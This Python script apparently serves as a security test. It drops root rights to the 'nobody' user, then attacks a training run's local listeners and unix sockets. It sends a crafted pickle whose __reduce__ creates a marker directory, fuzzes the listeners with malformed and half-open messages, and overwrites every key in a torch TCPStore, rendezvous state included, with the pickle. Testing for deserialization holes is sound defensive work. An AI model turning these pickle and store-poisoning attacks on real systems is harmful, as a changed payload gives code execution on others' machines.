"""Attack the listeners of a run as another user: `attack.py ASKED`. Starts as root and drops its rights before it connects.

ASKED is JSON. `tcp` and `last` are lists of [ADDRESS, PORT]; those of `last` are attacked after all others. `unix` is a list of
paths. `marker` is a path that the attacker cannot make. The pickles that it sends make it if they are loaded. Prints the results.
"""

from __future__ import annotations

import base64
import contextlib
import datetime
import json
import os
import pickle
import random
import socket
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

from torch.distributed import TCPStore

NOBODY = 65534
MANY = 200
_MAGIC, _PING = 0x3C85F7CE, 13  # torch/csrc/distributed/c10d/TCPStoreBackend.hpp
_HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Evil:
    """Make the marker when it is unpickled."""

    def __init__(self, marker: str) -> None:
        self._marker = marker

    def __reduce__(self) -> Any:
        return os.mkdir, (self._marker,)


def words(pickled: bytes) -> list[bytes]:
    """Return the messages to send, each over a connection of its own."""
    draw = random.Random(0)
    http = b"PUT /scope/key HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(pickled)
    sizes = [len(pickled).to_bytes(8, order) for order in ("little", "big")]
    return [
        draw.randbytes(4096), draw.randbytes(1 << 17), b"\0" * 4096, b"[" * 4000 + b"\n", b"[" * (1 << 17),
        '{"kind": "commands", "worker": "1", "token": "\xe9", "rank": 0}\n'.encode(), b'{"status": 0}\n', b"\n",
        pickled, pickled + b"\n", base64.b64encode(pickled) + b"\n", sizes[0] + pickled, sizes[1] + pickled, http + pickled,
        b"0" * 64 + b" " + pickled + b"\n", _HTTP2 + draw.randbytes(512),
    ]  # fmt: skip


HALVES = [
    b"\x00",
    b"PUT / HTTP/1.1\r\nHost: x",
    _HTTP2[:10],
    b'{"kind": "ord',
    b"0" * 64 + b" {",
    (1 << 20).to_bytes(8, "little"),
]


class Stranger:
    """Attack one listener."""

    def __init__(self, address: tuple[str, int], pickled: bytes) -> None:
        self._address, self._pickled = address, pickled
        self.num_connected = self.num_keys = self.num_rendezvous = 0
        self._num_missed = 0
        self._open: list[socket.socket] = []

    def attack(self) -> None:
        """Send one message after the other. Incomplete messages stay open until the end of the attack."""
        self._use_store()
        for word in words(self._pickled):
            self._say(word)
        for half in [b"", *HALVES, *[b""] * MANY]:
            if self._num_missed < 3:  # otherwise it accepts no more connections
                self._say(half, stays=True)
        for each in self._open:
            each.close()

    def _say(self, word: bytes, stays: bool = False) -> None:
        try:
            connection = socket.create_connection(self._address, timeout=1)
        except OSError:
            self._num_missed += 1
            return
        self.num_connected += 1
        with contextlib.suppress(OSError):  # the listener closed the connection, or does not read any more
            connection.settimeout(0.1)
            connection.sendall(word)
            if not stays:
                connection.recv(100)
        if stays:
            self._open.append(connection)
        else:
            connection.close()

    def _is_store(self) -> bool:
        """Return whether a TCPStore answers. torch's own client would wait for minutes for an answer."""
        with contextlib.suppress(OSError), socket.create_connection(self._address, timeout=2) as connection:
            connection.sendall(b"\0" + struct.pack("=I", _MAGIC) + bytes([_PING]) + struct.pack("=I", NOBODY))
            return connection.recv(4) == struct.pack("=I", NOBODY)
        return False

    def _use_store(self) -> None:
        """Replace the state that torch's rendezvous keeps in a store as a pickle in base64."""
        if not self._is_store():
            return
        store = TCPStore(*self._address, is_master=False, timeout=datetime.timedelta(seconds=5), wait_for_workers=False)
        for key in store.list_keys():
            is_rendezvous = key.startswith("torch.rendezvous.")
            store.set(key, base64.b64encode(self._pickled) if is_rendezvous else self._pickled)
            self.num_rendezvous += is_rendezvous
            self.num_keys += 1


def entered(path: str) -> bool:
    """Return whether a connection to a unix socket is possible."""
    name = "\0" + path[1:] if path.startswith("@") else path
    with socket.socket(socket.AF_UNIX) as connection:
        try:
            connection.connect(name)
        except OSError:
            return False
    return True


def main() -> None:
    asked = json.loads(sys.argv[1])
    "localhost".encode(
        "idna"
    )  # Python loads it when a host is first named, from files that nobody may be unable to read
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    with contextlib.suppress(PermissionError):
        Path(asked["marker"]).mkdir()
        sys.exit("the marker can be made by anybody")
    pickled = pickle.dumps(Evil(asked["marker"]))
    strangers: list[Stranger] = []
    for places in (asked["tcp"], asked["last"]):
        next_ones = [Stranger(("127.0.0.1" if address == "*" else address, port), pickled) for address, port in places]
        with ThreadPoolExecutor(max(1, len(next_ones))) as pool:
            list(pool.map(Stranger.attack, next_ones))
        strangers += next_ones
    found = {
        name: sum(getattr(each, name) for each in strangers) for name in ("num_connected", "num_keys", "num_rendezvous")
    }
    print(json.dumps({**found, "uid": os.getuid(), "entered": [path for path in asked["unix"] if entered(path)]}))


if __name__ == "__main__":
    main()
